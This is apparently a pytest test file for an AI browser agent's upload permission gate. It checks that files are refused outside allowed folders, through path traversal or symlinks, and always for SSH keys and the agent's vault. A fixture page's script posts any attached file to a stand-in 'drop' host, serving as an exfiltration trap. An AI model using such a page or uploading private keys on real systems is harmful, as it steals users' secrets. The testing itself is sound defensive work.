"""Uploads: a file leaves the machine only from a folder the person allowed, or
after asking; never from where keys and the agent's own files live.

The page is a real one: an <input type=file> whose own script posts the file's
content to another host as soon as a file is attached."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from wire_run import run_agent

from operator_agent.localserver import LocalServer, Response
from operator_agent.permissions.policy import Policy
from operator_agent.permissions.policy_gate import PolicyGate
from operator_agent.permissions.vault import Vault
from operator_agent.protocols import ConfigError
from operator_agent.traces import load_run
from operator_agent.types import Observation, Upload
from operator_bench.testing.script import find_index

CONTENT = "the contents of a private file 7f3a9c"
PAGE = """<!doctype html><html><head><meta charset=utf-8><title>Share a file</title></head><body>
<h1>Share a file</h1>
<label for="f">Attach a file</label> <input id="f" type="file">
<p id="status">nothing sent</p>
<script>
document.getElementById('f').addEventListener('change', async (e) => {
  const text = await e.target.files[0].text();
  await fetch('%DROP%/drop', {method: 'POST', mode: 'no-cors', body: text});
  document.getElementById('status').textContent = 'sent';
});
</script></body></html>"""


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
    """A home with ~/.ssh, the person's data folders and vault in it; a folder the
    person shares from and one they do not; the page and the host it posts to."""
    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_DATA_HOME", str(home / ".local" / "share"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    for name in ("OPERATOR_AUDIT_DB", "OPERATOR_PREFS_DB", "OPERATOR_POLICY", "OPERATOR_VAULT",
                 "OPERATOR_VAULT_KEY", "OPERATOR_VAULT_BACKEND"):
        monkeypatch.delenv(name, raising=False)
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY----- " + CONTENT)
    for folder in ("share", "elsewhere"):
        (home / folder).mkdir()
        (home / folder / "notes.txt").write_text(CONTENT)
    (home / "share" / "key-link.txt").symlink_to(home / ".ssh" / "id_ed25519")
    policy = tmp_path / "policy.toml"
    policy.write_text("version = 1\n", encoding="utf-8")
    drop = LocalServer(routes={"/drop": lambda _req: Response("ok")})
    site = LocalServer(routes={})
    site.routes["/"] = lambda _req: Response(PAGE.replace("%DROP%", f"http://drop.test:{drop.port}"))
    with drop, site:
        yield {"home": home, "policy": policy, "drop": drop, "url": f"http://files.test:{site.port}/",
               "run": tmp_path / "runs"}


@pytest_asyncio.fixture
async def context(sec_browser: Any) -> Any:
    ctx = await sec_browser.new_context()
    yield ctx
    await ctx.close()


async def upload(world: dict[str, Any], context: Any, path: str, **overrides: Any) -> str | None:
    """Runs the model's upload of `path`: None when it went through (the page then
    posted the file), else what the model was told. A refused file never reached the
    page, so its script had nothing to send."""
    steps = [lambda obs: {"reasoning": "attach it", "actions": [
        {"action": "upload", "index": find_index(obs, "Attach a file"), "path": path}]},
        lambda obs: {"reasoning": "done", "actions": [{"action": "done", "answer": "shared"}]}]
    world["runs"] = world.get("runs", 0) + 1
    run_dir = world["run"] / f"run-{world['runs']}"
    _, planner, _ = await run_agent(context, world["url"], steps, run_dir=run_dir, policy=world["policy"],
                                    overrides=overrides)
    result = load_run(run_dir).steps[0].results[0]
    page = context.pages[0]
    if result.ok:
        await page.wait_for_function("document.getElementById('status').textContent === 'sent'")
        return None
    assert await page.evaluate("document.getElementById('f').files.length") == 0
    assert not world["drop"].log, "the file reached the other host"
    assert result.error and result.error[:150] in planner.prompts[-1]  # the model reads why, next step
    return result.error


@pytest.mark.parametrize("where", ["elsewhere/notes.txt", "share/../elsewhere/notes.txt"])
async def test_a_file_outside_the_allowed_folders_is_refused(world: dict[str, Any], context: Any,
                                                             where: str) -> None:
    home = world["home"]
    told = await upload(world, context, str(home / where), allow_uploads=[str(home / "share")])
    assert told is not None and "--allow-uploads" in told and "not in a folder allowed for uploads" in told


async def test_no_upload_by_default(world: dict[str, Any], context: Any) -> None:
    told = await upload(world, context, str(world["home"] / "share" / "notes.txt"))
    assert told is not None and "allowed: none" in told


async def test_a_file_in_an_allowed_folder_goes_through(world: dict[str, Any], context: Any) -> None:
    told = await upload(world, context, "~/share/notes.txt", allow_uploads=[str(world["home"] / "share")])
    assert told is None
    posted = [r for r in world["drop"].log if r.path == "/drop"]
    assert posted and posted[0].body.decode() == CONTENT


@pytest.mark.parametrize("where", [
    "share/key-link.txt", "share/../.ssh/id_ed25519", ".ssh/id_ed25519",
    ".local/share/operator-agent/vault.json", ".config/operator-agent/policy.toml"])
async def test_keys_and_the_agents_own_files_are_refused_whatever_the_policy(
        world: dict[str, Any], context: Any, where: str) -> None:
    home = world["home"]
    vault = Vault.open(home / ".local/share/operator-agent/vault.json", passphrase="k", backend="file")
    vault.add_password("login", "hunter22", origins=["https://login.test"])
    (home / ".config/operator-agent").mkdir(parents=True, exist_ok=True)
    (home / ".config/operator-agent/policy.toml").write_text("version = 1\n")
    os.environ["OPERATOR_VAULT_KEY"] = "k"  # the person's vault is set up (monkeypatch restores env)
    told = await upload(world, context, str(home / where), allow_uploads=[str(home), str(home / ".ssh")])
    assert told is not None and "is never allowed" in told


# --- the gate itself: asking, and the policy setting ----------------------------------------


def _gate(policy: Policy, *, interactive: bool) -> PolicyGate:
    return PolicyGate(policy, interactive=interactive)


OBS = Observation(url="http://files.test/", title="Share a file")


async def test_a_person_at_the_terminal_is_asked(world: dict[str, Any]) -> None:
    home = world["home"]
    policy = Policy.default().with_overrides({"allow_uploads": [str(home / "share")]})
    gate = _gate(policy, interactive=True)
    asked = await gate.check(Upload(index=1, path=str(home / "elsewhere/notes.txt")), OBS)
    assert asked.decision == "ask" and "elsewhere/notes.txt" in asked.summary
    allowed = await gate.check(Upload(index=1, path=str(home / "share/notes.txt")), OBS)
    assert allowed.decision == "allow"
    never = await gate.check(Upload(index=1, path=str(home / ".ssh/id_ed25519")), OBS)
    assert never.decision == "deny"


def test_the_policy_file_setting(tmp_path: Path) -> None:
    path = tmp_path / "policy.toml"
    path.write_text('version = 1\n[uploads]\nallow_folders = ["~/to-share", "/srv/out"]\n')
    policy = Policy.load(path)
    assert policy.upload_folders == (Path("~/to-share").expanduser(), Path("/srv/out"))
    assert Policy.default().upload_folders == ()
    path.write_text('version = 1\n[uploads]\nallow_folders = ["to-share"]\n')
    with pytest.raises(ConfigError, match=r"\[uploads\] allow_folders: expected absolute folders"):
        Policy.load(path)
    path.write_text('version = 1\n[uploads]\nallow_folders = "/a"\nfolders = 1\n')
    with pytest.raises(ConfigError, match="unknown key"):
        Policy.load(path)


def test_the_cli_flag(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from operator_agent.cli import build_parser

    monkeypatch.chdir(tmp_path)
    from operator_agent.permissions.commands import policy_overrides

    args = build_parser().parse_args(["run", "a task", "--allow-uploads", "out", "--allow-uploads", "/srv"])
    policy = Policy.default().with_overrides(policy_overrides(args))
    assert policy.upload_folders == (tmp_path / "out", Path("/srv"))
